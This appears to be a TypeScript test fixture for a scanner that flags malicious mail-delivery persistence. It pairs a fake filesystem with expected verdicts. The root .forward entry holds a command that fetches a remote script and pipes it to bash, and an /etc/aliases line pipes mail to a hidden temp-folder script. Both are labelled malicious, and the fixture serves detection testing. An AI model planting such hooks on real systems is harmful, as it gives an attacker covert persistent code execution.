import { elf, type Pair } from './pair.ts';

export const pair: Pair = {
  packaged: { '/usr/lib/mailman/mail/mailman': elf('mailman') },
  tree: {
    '/etc/aliases':
      'postmaster: root\nlist: "|/usr/lib/mailman/mail/mailman post list"\nops: "|/var/tmp/.m/run"\n',
    '/root/.forward': '|"curl -s http://203.0.113.5/k | bash"\n',
    '/home/ann/.forward': 'ann@example.org\n',
  },
  blamed: [
    { path: '/etc/aliases', line: 3, verdict: 'malicious', code: 'temp-folder', attack: 'T1546' },
    { path: '/root/.forward', line: 1, verdict: 'malicious', code: 'fetch-pipe-shell', attack: 'T1546' },
  ],
  passed: ['/etc/aliases line 2', '/home/ann/.forward'],
};
